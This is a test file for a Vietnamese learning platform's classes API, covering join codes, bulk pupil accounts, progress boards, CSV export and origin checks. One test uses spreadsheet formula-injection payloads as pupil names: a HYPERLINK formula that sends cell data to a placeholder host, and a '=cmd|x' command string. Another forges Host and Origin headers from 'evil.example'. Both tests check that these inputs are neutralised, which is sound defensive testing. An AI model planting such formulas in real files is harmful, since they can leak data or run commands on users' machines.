import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance, InjectOptions } from 'fastify';
import { parse } from 'csv-parse/sync';
import { CONSENT_VERSION } from '@hvs/contracts';
import { roleGrant } from '../src/db/schema/index.ts';
import { answersFromAuthored, buildTestApp, openTestDatabase, type TestDatabase } from './helper.ts';

const KEY: Record<string, string> = { otp: 'khong', 'mat-khau': 'dai', link: 'xoa', 'cap-nhat': 'lua' };
const WRONG: Record<string, string> = { otp: 'co', 'mat-khau': 'ngan', link: 'bam', 'cap-nhat': 'cong-an' };

let database: TestDatabase;
let app: FastifyInstance;
let commune = '';

beforeAll(async () => {
  database = await openTestDatabase();
  app = await buildTestApp(database, { AUTH_RATE_LIMIT: '10000' });
  commune = (await app.inject({ url: '/api/v1/communes?q=ba%20dinh' })).json()[0].code;
});
afterAll(async () => {
  await app?.close();
  await database?.close();
});

async function account(login: string, teacher = false): Promise<string> {
  const res = await app.inject({
    method: 'POST',
    url: '/api/v1/auth/signup',
    payload: {
      login,
      password: 'mat-khau-du-dai',
      displayName: login,
      birthYear: 1985,
      communeCode: commune,
      consentVersion: CONSENT_VERSION,
      tokens: 'body',
    },
  });
  if (!teacher) return res.json().accessToken;
  await app.db.insert(roleGrant).values({ userId: res.json().user.id, role: 'teacher', scopeUnitCode: null });
  return signIn(login, 'mat-khau-du-dai');
}
async function signIn(login: string, password: string): Promise<string> {
  const res = await app.inject({
    method: 'POST',
    url: '/api/v1/auth/login',
    payload: { login, password, tokens: 'body' },
  });
  expect(res.statusCode, `sign in ${login}`).toBe(200);
  return res.json().accessToken;
}
const as = (token: string, options: InjectOptions) =>
  app.inject({ ...options, headers: { ...options.headers, authorization: `Bearer ${token}` } });
const uid = () => randomUUID().slice(0, 6);

async function answer(token: string, lessonId: string, key: Record<string, string>) {
  const id = randomUUID();
  const quiz = (await app.inject({ url: `/api/v1/lessons/${lessonId}/quiz?attemptId=${id}` })).json();
  const answers = answersFromAuthored(quiz, key);
  const res = await as(token, {
    method: 'POST',
    url: '/api/v1/attempts',
    payload: { id, lessonId, quizVersion: quiz.version, answers },
  });
  expect(res.statusCode).toBe(201);
}

describe('classes', () => {
  it('a teacher creates a class; a student joins with its code (typed loosely) and sees the assignment', async () => {
    const teacher = await account(`gv-${uid()}`, true);
    const cls = (
      await as(teacher, { method: 'POST', url: '/api/v1/classes', payload: { name: 'Lớp 8A', school: 'THCS Ba Đình' } })
    ).json();
    expect(cls.joinCode).toMatch(/^[A-HJKMNP-Z2-9]{6}$/);
    const student = await account(`hs-${uid()}`);
    const joined = await as(student, {
      method: 'POST',
      url: '/api/v1/classes/join',
      payload: { code: ` ${cls.joinCode.toLowerCase().slice(0, 3)}-${cls.joinCode.slice(3)} ` },
    });
    expect(joined.json()).toEqual({ classId: cls.id, name: 'Lớp 8A' });
    const due = new Date(Date.now() + 7 * 86_400_000).toISOString();
    const assigned = await as(teacher, {
      method: 'POST',
      url: `/api/v1/classes/${cls.id}/assignments`,
      payload: { moduleId: 'demo', dueAt: due },
    });
    expect(assigned.statusCode).toBe(201);
    expect(assigned.json().lessonIds).toEqual(['demo-bai-thu', 'demo-bai-hai']);
    const mine = (await as(student, { url: '/api/v1/me/assignments' })).json();
    expect(mine).toEqual([
      expect.objectContaining({
        className: 'Lớp 8A',
        dueAt: new Date(due).toISOString(),
        lessons: [expect.objectContaining({ passed: false }), expect.anything()],
      }),
    ]);
  });

  it('keeps each teacher to their own classes, and students off the board', async () => {
    const a = await account(`gv-${uid()}`, true);
    const b = await account(`gv-${uid()}`, true);
    const cls = (await as(a, { method: 'POST', url: '/api/v1/classes', payload: { name: 'Lớp của cô A' } })).json();
    for (const url of [
      `/api/v1/classes/${cls.id}`,
      `/api/v1/classes/${cls.id}/board`,
      `/api/v1/classes/${cls.id}/board.csv`,
      `/api/v1/classes/${cls.id}/join-qr.svg`,
    ]) {
      const res = await as(b, { url });
      expect(res.statusCode, url).toBe(404);
      expect(res.json().code).toBe('class_not_found');
    }
    expect((await as(b, { url: '/api/v1/classes' })).json()).toEqual([]);
    const renamed = await as(b, {
      method: 'POST',
      url: `/api/v1/classes/${cls.id}/assignments`,
      payload: { moduleId: 'demo', dueAt: new Date().toISOString() },
    });
    expect(renamed.statusCode).toBe(404);
    const student = await account(`hs-${uid()}`);
    await as(student, { method: 'POST', url: '/api/v1/classes/join', payload: { code: cls.joinCode } });
    const board = await as(student, { url: `/api/v1/classes/${cls.id}/board` });
    expect(board.statusCode).toBe(403);
  });

  it('stops a revoked code from working; a new code works', async () => {
    const teacher = await account(`gv-${uid()}`, true);
    const cls = (await as(teacher, { method: 'POST', url: '/api/v1/classes', payload: { name: 'Lớp 9B' } })).json();
    expect((await as(teacher, { method: 'DELETE', url: `/api/v1/classes/${cls.id}/join-code` })).statusCode).toBe(204);
    const student = await account(`hs-${uid()}`);
    const old = await as(student, { method: 'POST', url: '/api/v1/classes/join', payload: { code: cls.joinCode } });
    expect(old.statusCode).toBe(404);
    expect(old.json().code).toBe('join_code_invalid');
    const fresh = (await as(teacher, { method: 'POST', url: `/api/v1/classes/${cls.id}/join-code` })).json();
    expect(fresh.joinCode).not.toBe(cls.joinCode);
    expect(
      (await as(student, { method: 'POST', url: '/api/v1/classes/join', payload: { code: fresh.joinCode } }))
        .statusCode,
    ).toBe(200);
    const qr = await as(teacher, { url: `/api/v1/classes/${cls.id}/join-qr.svg` });
    expect(qr.headers['content-type']).toMatch(/image\/svg\+xml/);
    expect(qr.body).toMatch(/^<svg/);
  });

  it('creates 40 pupil accounts at once, each able to sign in with its login card', async () => {
    const teacher = await account(`gv-${uid()}`, true);
    const cls = (await as(teacher, { method: 'POST', url: '/api/v1/classes', payload: { name: 'Lớp 6C' } })).json();
    const names = Array.from({ length: 40 }, (_, i) => `Nguyễn Văn Đức ${i + 1}`);
    const res = await as(teacher, {
      method: 'POST',
      url: `/api/v1/classes/${cls.id}/students`,
      payload: { names, birthYear: 2014, studentLevel: 'lower_secondary', consent: true },
    });
    expect(res.statusCode).toBe(201);
    const cards = res.json().accounts as { login: string; password: string; displayName: string }[];
    expect(cards).toHaveLength(40);
    expect(new Set(cards.map((c) => c.login)).size).toBe(40);
    for (const c of cards) expect(c.login).toMatch(/^[a-z][a-z0-9]{2,31}$/);
    for (const c of cards) await signIn(c.login, c.password);
    const detail = (await as(teacher, { url: `/api/v1/classes/${cls.id}` })).json();
    expect(detail.students).toHaveLength(40);
    const noConsent = await as(teacher, {
      method: 'POST',
      url: `/api/v1/classes/${cls.id}/students`,
      payload: { names: ['An'], birthYear: 2014, studentLevel: 'primary' },
    });
    expect(noConsent.statusCode).toBe(400);
  });

  it('shows who did what, marks late work, finds the hardest questions, and the CSV says what the board says', async () => {
    const teacher = await account(`gv-${uid()}`, true);
    const cls = (await as(teacher, { method: 'POST', url: '/api/v1/classes', payload: { name: 'Lớp 7D' } })).json();
    const [ontime, late, idle] = await Promise.all([
      account(`hs-${uid()}`),
      account(`hs-${uid()}`),
      account(`hs-${uid()}`),
    ]);
    for (const s of [ontime!, late!, idle!])
      await as(s, { method: 'POST', url: '/api/v1/classes/join', payload: { code: cls.joinCode } });
    await as(teacher, {
      method: 'POST',
      url: `/api/v1/classes/${cls.id}/assignments`,
      payload: { lessonIds: ['demo-bai-thu'], dueAt: new Date(Date.now() + 86_400_000).toISOString() },
    });
    await as(teacher, {
      method: 'POST',
      url: `/api/v1/classes/${cls.id}/assignments`,
      payload: { lessonIds: ['demo-bai-hai'], dueAt: new Date(Date.now() - 86_400_000).toISOString() },
    });
    await answer(ontime!, 'demo-bai-thu', KEY);
    await answer(ontime!, 'demo-bai-hai', WRONG);
    await answer(late!, 'demo-bai-hai', KEY); // after the due date: recorded, marked late
    await answer(late!, 'demo-bai-thu', WRONG);
    const boardRes = await as(teacher, { url: `/api/v1/classes/${cls.id}/board` });
    expect(boardRes.statusCode).toBe(200);
    const board = boardRes.json();
    const cell = (login: string, lesson: string) =>
      board.rows
        .find((r: { login: string }) => r.login === login)
        .cells.find((c: { lessonId: string }) => c.lessonId === lesson);
    const login = async (token: string) => (await as(token, { url: '/api/v1/me' })).json().login;
    const [l1, l2, l3] = [await login(ontime!), await login(late!), await login(idle!)];
    expect(cell(l1, 'demo-bai-thu')).toMatchObject({ status: 'passed', bestScore: 1, attempts: 1 });
    expect(cell(l1, 'demo-bai-hai')).toMatchObject({ status: 'overdue', bestScore: 0 });
    expect(cell(l2, 'demo-bai-hai')).toMatchObject({ status: 'passed_late', bestScore: 1 });
    expect(cell(l2, 'demo-bai-thu')).toMatchObject({ status: 'tried', bestScore: 0 });
    expect(cell(l3, 'demo-bai-thu')).toMatchObject({ status: 'not_started', bestScore: null, attempts: 0 });
    expect(board.lessons.map((l: { passed: number }) => l.passed)).toEqual([1, 1]);
    // Every question answered wrong once and right once: each is 50 % right, with the wrong pick named.
    expect(board.hardest.length).toBeGreaterThan(0);
    for (const h of board.hardest) expect(h.correctShare).toBeLessThanOrEqual(1);
    const worst = board.hardest[0];
    expect(worst.wrongAnswers[0]).toEqual({ answer: expect.any(String), count: expect.any(Number) });

    const csv = await as(teacher, { url: `/api/v1/classes/${cls.id}/board.csv` });
    expect(csv.headers['content-type']).toMatch(/text\/csv; charset=utf-8/);
    expect(csv.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const table = parse(csv.body.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    const status: Record<string, string> = {
      passed: 'Đạt',
      passed_late: 'Đạt (muộn)',
      tried: 'Chưa đạt',
      not_started: 'Chưa làm',
      overdue: 'Quá hạn',
    };
    board.rows.forEach(
      (
        r: {
          displayName: string;
          login: string;
          passed: number;
          late: number;
          cells: { status: string; bestScore: number | null; attempts: number }[];
        },
        i: number,
      ) => {
        const line = table[i + 1]!;
        expect(line.slice(0, 4)).toEqual([r.displayName, r.login, String(r.passed), String(r.late)]);
        r.cells.forEach((c, j) => {
          expect(line.slice(4 + j * 3, 7 + j * 3)).toEqual([
            status[c.status],
            c.bestScore === null ? '' : String(Math.round(c.bestScore * 100)),
            String(c.attempts),
          ]);
        });
      },
    );
    // Then an empty row, and the hardest questions as on screen, cell by cell.
    const at = board.rows.length + 1;
    expect(table[at]).toEqual(['']);
    expect(table[at + 1]).toEqual(['Câu hỏi cả lớp thấy khó nhất']);
    expect(table[at + 2]).toEqual(['Bài', 'Câu hỏi', 'Trả lời đúng (%)', 'Số lượt trả lời', 'Sai nhiều nhất']);
    const titles = new Map(board.lessons.map((l: { lessonId: string; title: string }) => [l.lessonId, l.title]));
    expect(table.slice(at + 3)).toEqual(
      board.hardest.map(
        (h: {
          lessonId: string;
          prompt: string;
          correctShare: number;
          answered: number;
          wrongAnswers: { answer: string; count: number }[];
        }) => [
          titles.get(h.lessonId),
          h.prompt,
          String(Math.round(h.correctShare * 100)),
          String(h.answered),
          h.wrongAnswers.map((w) => `${w.answer} (${w.count})`).join('; '),
        ],
      ),
    );
    expect(board.hardest.length).toBeGreaterThan(0);
  });

  it('writes a name that looks like a spreadsheet formula as text in the CSV, never as a formula', async () => {
    const teacher = await account(`gv-${uid()}`, true);
    const cls = (await as(teacher, { method: 'POST', url: '/api/v1/classes', payload: { name: '=1+1' } })).json();
    const names = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', '+84 912', '-2+3', '@SUM(A1)', 'Lan'];
    await as(teacher, {
      method: 'POST',
      url: `/api/v1/classes/${cls.id}/students`,
      payload: { names, birthYear: 2014, studentLevel: 'primary', consent: true },
    });
    await as(teacher, {
      method: 'POST',
      url: `/api/v1/classes/${cls.id}/assignments`,
      payload: { lessonIds: ['demo-bai-thu'], dueAt: new Date(Date.now() + 86_400_000).toISOString() },
    });
    const csv = await as(teacher, { url: `/api/v1/classes/${cls.id}/board.csv` });
    const table = parse(csv.body.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    const firstCells = table
      .slice(1, 1 + names.length)
      .map((r) => r[0])
      .sort();
    expect(firstCells).toEqual(
      ["'+84 912", "'-2+3", '\'=HYPERLINK("http://x.example/?"&A1,"Bấm")', "'@SUM(A1)", 'Lan'].sort(),
    );
    // The board itself shows the names as typed.
    const board = (await as(teacher, { url: `/api/v1/classes/${cls.id}/board` })).json();
    expect(board.rows.map((r: { displayName: string }) => r.displayName).sort()).toEqual([...names].sort());
    // The indicator CSVs escape the same way (unit names come from data too).
    const indicatorCsv = app.services.indicators.toCsv(
      {
        unit: { code: '01', name: '=cmd|x' },
        indicators: [],
        trend: { weeks: [], series: [] },
        children: [{ rank: 1, code: '00001', name: '@evil', indicators: [] }],
      } as never,
      'ranking',
    );
    expect(indicatorCsv).toContain("'@evil");
    expect(indicatorCsv).not.toMatch(/,@evil/);
  });

  it('lets a student leave and a teacher remove one; archiving keeps the history and closes the door', async () => {
    const teacher = await account(`gv-${uid()}`, true);
    const cls = (await as(teacher, { method: 'POST', url: '/api/v1/classes', payload: { name: 'Lớp 5A' } })).json();
    const [s1, s2] = [await account(`hs-${uid()}`), await account(`hs-${uid()}`)];
    for (const s of [s1, s2])
      await as(s, { method: 'POST', url: '/api/v1/classes/join', payload: { code: cls.joinCode } });
    expect((await as(s1, { method: 'POST', url: `/api/v1/classes/${cls.id}/leave` })).statusCode).toBe(204);
    const s2id = (await as(s2, { url: '/api/v1/me' })).json().id;
    expect(
      (await as(teacher, { method: 'DELETE', url: `/api/v1/classes/${cls.id}/students/${s2id}` })).statusCode,
    ).toBe(204);
    expect((await as(teacher, { url: `/api/v1/classes/${cls.id}` })).json().students).toEqual([]);
    // Back in with the code, then the class is archived.
    await as(s1, { method: 'POST', url: '/api/v1/classes/join', payload: { code: cls.joinCode } });
    await as(teacher, {
      method: 'POST',
      url: `/api/v1/classes/${cls.id}/assignments`,
      payload: { moduleId: 'demo', dueAt: new Date().toISOString() },
    });
    expect((await as(teacher, { method: 'POST', url: `/api/v1/classes/${cls.id}/archive` })).statusCode).toBe(204);
    const after = (await as(teacher, { url: `/api/v1/classes/${cls.id}` })).json();
    expect(after).toMatchObject({
      archivedAt: expect.any(String),
      joinCode: null,
      students: [expect.anything()],
      assignments: [expect.anything()],
    });
    expect((await as(teacher, { url: `/api/v1/classes/${cls.id}/board` })).statusCode).toBe(200);
    const again = await as(teacher, {
      method: 'POST',
      url: `/api/v1/classes/${cls.id}/assignments`,
      payload: { moduleId: 'demo', dueAt: new Date().toISOString() },
    });
    expect(again.json().code).toBe('class_archived');
  });

  it('gives pupils called An a username even when every four-digit "an…" is taken (never a 500)', async () => {
    const { sql } = await import('drizzle-orm');
    // 9,000 pupils called An already: an1000 … an9999.
    await (app.db as unknown as { execute: (q: unknown) => Promise<unknown> }).execute(sql`
      insert into app_user (id, login, password_hash, display_name, birth_year, commune_code, consent_version, consent_at)
      select gen_random_uuid(), 'an' || n, 'x', 'An', 2014, ${commune}, 'test', now() from generate_series(1000, 9999) n`);
    const teacher = await account(`gv-${uid()}`, true);
    const cls = (await as(teacher, { method: 'POST', url: '/api/v1/classes', payload: { name: 'Lớp 1A' } })).json();
    const res = await as(teacher, {
      method: 'POST',
      url: `/api/v1/classes/${cls.id}/students`,
      payload: { names: ['Nguyễn An', 'Trần An'], birthYear: 2018, studentLevel: 'primary', consent: true },
    });
    expect(res.statusCode).toBe(201);
    const cards = res.json().accounts as { login: string; password: string }[];
    for (const c of cards) expect(c.login).toMatch(/^an\d{5,}$/);
    await signIn(cards[0]!.login, cards[0]!.password);
  });

  it('builds the join link and its QR code from PUBLIC_ORIGIN, never from the Host header, and checks Origin against it', async () => {
    const pinned = await buildTestApp(database, {
      AUTH_RATE_LIMIT: '10000',
      PUBLIC_ORIGIN: 'https://hocvuso.example.vn/',
    });
    const login = `gv-${uid()}`;
    const signed = await pinned.inject({
      method: 'POST',
      url: '/api/v1/auth/signup',
      payload: {
        login,
        password: 'mat-khau-du-dai',
        displayName: login,
        birthYear: 1985,
        communeCode: commune,
        consentVersion: CONSENT_VERSION,
        tokens: 'body',
      },
    });
    await pinned.db.insert(roleGrant).values({ userId: signed.json().user.id, role: 'teacher', scopeUnitCode: null });
    const session = await pinned.inject({
      method: 'POST',
      url: '/api/v1/auth/login',
      payload: { login, password: 'mat-khau-du-dai' },
    });
    const cookie = session.cookies.map((c) => `${c.name}=${c.value}`).join('; ');
    const made = await pinned.inject({
      method: 'POST',
      url: '/api/v1/classes',
      payload: { name: 'Lớp 3C' },
      headers: { cookie, host: 'evil.example', origin: 'https://hocvuso.example.vn' },
    });
    expect(made.statusCode).toBe(201);
    const detail = (
      await pinned.inject({ url: `/api/v1/classes/${made.json().id}`, headers: { cookie, host: 'evil.example' } })
    ).json();
    expect(detail.joinUrl).toBe(`https://hocvuso.example.vn/vao-lop?ma=${made.json().joinCode}`);
    const qr = await pinned.inject({
      url: `/api/v1/classes/${made.json().id}/join-qr.svg`,
      headers: { cookie, host: 'evil.example' },
    });
    // The QR holds the link: an SVG made from another link differs.
    const QRCode = (await import('qrcode')).default;
    expect(qr.body).toBe(await QRCode.toString(detail.joinUrl, { type: 'svg', margin: 1, errorCorrectionLevel: 'M' }));
    // A page on the attacker's host that sets Host and Origin alike is refused.
    const forged = await pinned.inject({
      method: 'POST',
      url: '/api/v1/classes',
      payload: { name: 'X' },
      headers: { cookie, host: 'evil.example', origin: 'https://evil.example' },
    });
    expect(forged.statusCode).toBe(403);
    expect(forged.json().code).toBe('forbidden_origin');
    await pinned.close();
    // Without PUBLIC_ORIGIN the link follows the request's own address.
    const teacher = await account(`gv-${uid()}`, true);
    const cls = (await as(teacher, { method: 'POST', url: '/api/v1/classes', payload: { name: 'Lớp 3D' } })).json();
    const local = (
      await as(teacher, { url: `/api/v1/classes/${cls.id}`, headers: { host: 'truong.local:3000' } })
    ).json();
    expect(local.joinUrl).toBe(`http://truong.local:3000/vao-lop?ma=${cls.joinCode}`);
  });

  it('assigns several chosen lessons; a student lists their classes and leaves one; an archived class opens again', async () => {
    const teacher = await account(`gv-${uid()}`, true);
    const cls = (
      await as(teacher, { method: 'POST', url: '/api/v1/classes', payload: { name: 'Lớp 4E', school: 'TH Ba Đình' } })
    ).json();
    const chosen = await as(teacher, {
      method: 'POST',
      url: `/api/v1/classes/${cls.id}/assignments`,
      payload: {
        lessonIds: ['demo-bai-hai', 'demo-bai-thu', 'demo-bai-hai'],
        dueAt: new Date(Date.now() + 86_400_000).toISOString(),
      },
    });
    expect(chosen.statusCode).toBe(201);
    expect(chosen.json()).toMatchObject({ moduleId: null, lessonIds: ['demo-bai-hai', 'demo-bai-thu'] });
    expect(chosen.json().title).toContain(' · ');
    const student = await account(`hs-${uid()}`);
    await as(student, { method: 'POST', url: '/api/v1/classes/join', payload: { code: cls.joinCode } });
    const mine = (await as(student, { url: '/api/v1/me/classes' })).json();
    expect(mine).toEqual([
      {
        id: cls.id,
        name: 'Lớp 4E',
        school: 'TH Ba Đình',
        teacherName: expect.any(String),
        joinedAt: expect.any(String),
      },
    ]);
    expect((await as(student, { method: 'POST', url: `/api/v1/classes/${cls.id}/leave` })).statusCode).toBe(204);
    expect((await as(student, { url: '/api/v1/me/classes' })).json()).toEqual([]);
    expect((await as(student, { url: '/api/v1/me/assignments' })).json()).toEqual([]);

    expect((await as(teacher, { method: 'POST', url: `/api/v1/classes/${cls.id}/archive` })).statusCode).toBe(204);
    expect((await as(teacher, { method: 'POST', url: `/api/v1/classes/${cls.id}/unarchive` })).statusCode).toBe(204);
    const reopened = (await as(teacher, { url: `/api/v1/classes/${cls.id}` })).json();
    expect(reopened).toMatchObject({ archivedAt: null, joinCode: null, joinUrl: null });
    expect(
      (
        await as(teacher, {
          method: 'POST',
          url: `/api/v1/classes/${cls.id}/assignments`,
          payload: { moduleId: 'demo', dueAt: new Date().toISOString() },
        })
      ).statusCode,
    ).toBe(201);
  });
});
